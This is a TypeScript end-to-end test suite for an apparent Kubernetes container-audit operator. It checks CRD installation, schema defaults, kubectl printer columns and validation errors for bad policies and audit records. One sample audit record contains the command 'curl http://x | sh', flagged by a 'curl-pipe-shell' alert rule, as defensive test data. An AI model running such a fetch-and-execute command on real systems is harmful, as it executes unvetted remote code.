/**
 * The generated CRDs against a real kube-apiserver: they install, the examples are accepted with their
 * defaults filled in by the server, bad policies are refused with a message naming the field, and kubectl
 * shows the printer columns.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ApiException, CustomObjectsApi } from '@kubernetes/client-node';
import { GROUP, POLICY_KIND, POLICY_PLURAL, VERSION } from '../v1alpha1/index.js';
import { BAD_POLICIES, badSpec } from '../v1alpha1/testdata/bad-policies.js';
import { kubectl, kubectlOk, testKubeConfig } from '../../e2e/support/cluster.js';
import { CRD_DIR, REPO_ROOT } from '../../e2e/support/paths.js';

const CRDS = CRD_DIR;
const EXAMPLES = join(REPO_ROOT, 'examples');

/** The first line of `kubectl get` split on the column gaps (two or more spaces). */
function columns(table: string): string[] {
  return (table.split('\n')[0] ?? '').trim().split(/\s{2,}/);
}

/** The row of `kubectl get` for NAME, as a column -> value map. */
function row(table: string, name: string): Record<string, string> {
  const lines = table.trim().split('\n');
  const header = lines[0]!;
  // Columns are left-aligned: each value starts where its header starts.
  const starts = [...header.matchAll(/\S+(?: \S+)*/g)].map((m) => [m[0], m.index] as const);
  const line = lines.find((l) => l.split(/\s+/).includes(name));
  if (!line) throw new Error(`no row for ${name} in:\n${table}`);
  return Object.fromEntries(
    starts.map(([title, start], i) => [title, line.slice(start, starts[i + 1]?.[1] ?? line.length).trim()]),
  );
}

/** Writes status through the status subresource, as the operator will. */
async function patchStatus(target: string[], patch: object): Promise<void> {
  await kubectlOk(['patch', ...target, '--subresource=status', '--type=merge', '-p', JSON.stringify(patch)]);
}

beforeAll(async () => {
  await kubectlOk(['apply', '--server-side', '-f', CRDS]);
  await kubectlOk(['wait', '--for=condition=Established', '--timeout=60s', '-f', CRDS]);
});

describe('CustomResourceDefinitions', () => {
  it.each(['containerauditpolicies', 'auditrecords'])(
    '%s is accepted as structural and established',
    async (plural) => {
      const crd = JSON.parse(await kubectlOk(['get', 'crd', `${plural}.${GROUP}`, '-o', 'json'])) as {
        status: { conditions: { type: string; status: string; message: string }[] };
      };
      const byType = Object.fromEntries(crd.status.conditions.map((c) => [c.type, c]));
      expect(byType.NonStructuralSchema).toBeUndefined();
      expect(byType.NamesAccepted?.status).toBe('True');
      expect(byType.Established?.status).toBe('True');
    },
  );

  it('answers to the short names', async () => {
    for (const name of [
      'auditpolicy',
      'auditpolicies',
      'cap',
      'containerauditpolicies',
      'ar',
      'auditrecords',
    ]) {
      await kubectlOk(['get', name, '-A']);
    }
  });
});

describe('ContainerAuditPolicy examples', () => {
  beforeAll(async () => {
    await kubectlOk(['apply', '--server-side', '-f', EXAMPLES]);
  });

  it('are stored with the defaults the schema declares, filled in by the server', async () => {
    const policy = JSON.parse(await kubectlOk(['get', 'auditpolicy', 'audit-all-shells', '-o', 'json'])) as {
      spec: unknown;
    };
    expect(policy.spec).toEqual({
      selector: { namespaceSelector: {}, podSelector: {}, containers: [] },
      capture: { interactiveShells: true, execs: false, maxCommandBytes: 4096 },
      redact: { builtins: true, patterns: [] },
      alerts: [],
      outputs: { events: true, auditRecords: true },
      retention: { maxAge: '720h' },
      suspend: false,
    });
  });

  it('`kubectl get auditpolicies` shows ready, matched pods, audited containers, commands and age', async () => {
    await patchStatus(['cap', 'production-shells'], {
      status: {
        observedGeneration: 1,
        matchedPods: 3,
        auditedContainers: 4,
        commandsRecorded: 57,
        conditions: [
          {
            type: 'Ready',
            status: 'True',
            reason: 'Audited',
            message: 'all selected containers are audited',
            lastTransitionTime: '2026-11-29T10:00:00Z',
          },
        ],
      },
    });
    const table = await kubectlOk(['get', 'auditpolicies']);
    expect(columns(table)).toEqual([
      'NAME',
      'READY',
      'MATCHED PODS',
      'AUDITED CONTAINERS',
      'COMMANDS',
      'AGE',
    ]);
    expect(row(table, 'production-shells')).toMatchObject({
      READY: 'True',
      'MATCHED PODS': '3',
      'AUDITED CONTAINERS': '4',
      COMMANDS: '57',
    });
    const wide = await kubectlOk(['get', 'auditpolicies', '-o', 'wide']);
    expect(columns(wide)).toEqual(expect.arrayContaining(['LAST COMMAND', 'SUSPENDED']));
  });

  it('`kubectl describe auditpolicy` shows the spec and the status', async () => {
    const text = await kubectlOk(['describe', 'auditpolicy', 'production-shells']);
    expect(text).toMatch(/^Name:\s+production-shells$/m);
    expect(text).toMatch(/^Kind:\s+ContainerAuditPolicy$/m);
    expect(text).toMatch(/Max Command Bytes:\s+8192/);
    expect(text).toMatch(/Name:\s+curl-pipe-shell/);
    expect(text).toMatch(/Matched Pods:\s+3/);
    expect(text).toMatch(/Reason:\s+Audited/);
  });

  it('ignores status written through the main resource (status is a subresource)', async () => {
    const body = readFileSync(join(EXAMPLES, 'payments-execs.yaml'), 'utf8') + 'status:\n  matchedPods: 99\n';
    await kubectlOk(['apply', '--server-side', '--force-conflicts', '-f', '-'], body);
    const policy = JSON.parse(await kubectlOk(['get', 'cap', 'payments-execs', '-o', 'json'])) as {
      status?: { matchedPods?: number };
    };
    expect(policy.status?.matchedPods).toBeUndefined();
  });
});

describe('bad policies', () => {
  const api = testKubeConfig().makeApiClient(CustomObjectsApi);

  it('include at least ten distinct kinds', () => {
    expect(new Set(BAD_POLICIES.map((b) => b.serverField)).size).toBeGreaterThanOrEqual(10);
  });

  it.each(BAD_POLICIES.map((b) => [b.name, b] as const))(
    'refuses %s, naming the field',
    async (_name, bad) => {
      const attempt = api.createClusterCustomObject({
        group: GROUP,
        version: VERSION,
        plural: POLICY_PLURAL,
        body: {
          apiVersion: `${GROUP}/${VERSION}`,
          kind: POLICY_KIND,
          metadata: { name: 'bad-policy' },
          spec: badSpec(bad),
        },
        dryRun: 'All',
        fieldValidation: 'Strict',
      });
      const error = await attempt.then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(ApiException);
      const { code, body } = error as ApiException<string>;
      expect([422, 400]).toContain(code);
      const message = (JSON.parse(body) as { message: string }).message;
      expect(message).toContain(bad.serverField);
    },
  );

  it('are refused by `kubectl apply` with a message a user can act on', async () => {
    const result = await kubectl(
      ['apply', '--server-side', '-f', '-'],
      [
        'apiVersion: containeraudit.io/v1alpha1',
        'kind: ContainerAuditPolicy',
        'metadata: {name: typo}',
        'spec:',
        '  capture: {maxCommandBytes: 0}',
        '  alerts: [{name: a, pattern: "x", severity: urgent}]',
      ].join('\n'),
    );
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('spec.capture.maxCommandBytes');
    expect(result.stderr).toContain('spec.alerts[0].severity');
    expect(result.stderr).toMatch(/"low", "medium", "high", "critical"/);
  });
});

describe('AuditRecord', () => {
  const record = (name: string, kind = 'shell') =>
    [
      'apiVersion: containeraudit.io/v1alpha1',
      'kind: AuditRecord',
      `metadata: {name: ${name}, namespace: shop}`,
      'spec:',
      '  pod: {name: web-0, uid: 1b4e28ba-2fa1-11d2-883f-0016d3cca427}',
      '  container: {name: app, id: c0ffee, image: "registry.example/web:1.2"}',
      '  node: node-a',
      '  policy: production-shells',
      `  session: {kind: ${kind}, pid: 4242, start: "2026-11-29T10:00:00Z"}`,
    ].join('\n');

  beforeAll(async () => {
    await kubectlOk(['create', 'namespace', 'shop']);
  });

  it('`kubectl get auditrecords -A` shows pod, container, node, commands and the last command', async () => {
    await kubectlOk(['apply', '--server-side', '-f', '-'], record('web-0-app-4242-1'));
    await patchStatus(['ar', 'web-0-app-4242-1', '-n', 'shop'], {
      status: {
        phase: 'Active',
        commands: [
          { seq: 1, time: '2026-11-29T10:00:01Z', pid: 4242, uid: 0, command: 'ls -la /' },
          {
            seq: 2,
            time: '2026-11-29T10:00:05Z',
            pid: 4242,
            uid: 0,
            command: 'curl http://x | sh',
            alert: { name: 'curl-pipe-shell', severity: 'high' },
          },
        ],
        counts: { commands: 2, alerts: 1 },
        lastCommandTime: '2026-11-29T10:00:05Z',
      },
    });
    const table = await kubectlOk(['get', 'auditrecords', '-A']);
    expect(columns(table)).toEqual([
      'NAMESPACE',
      'NAME',
      'POD',
      'CONTAINER',
      'NODE',
      'COMMANDS',
      'ALERTS',
      'LAST COMMAND',
      'PHASE',
      'AGE',
    ]);
    expect(row(table, 'web-0-app-4242-1')).toMatchObject({
      NAMESPACE: 'shop',
      POD: 'web-0',
      CONTAINER: 'app',
      NODE: 'node-a',
      COMMANDS: '2',
      ALERTS: '1',
      PHASE: 'Active',
    });
    const stored = JSON.parse(
      await kubectlOk(['get', 'ar', 'web-0-app-4242-1', '-n', 'shop', '-o', 'json']),
    ) as {
      spec: { session: { part: number } };
      status: { commands: { truncated: boolean; redacted: boolean }[] };
    };
    expect(stored.spec.session.part).toBe(1);
    expect(stored.status.commands[0]).toMatchObject({ truncated: false, redacted: false });
  });

  it('refuses a record with an unknown session kind', async () => {
    const result = await kubectl(['apply', '--server-side', '-f', '-'], record('bad-kind', 'ssh'));
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('spec.session.kind');
  });
});
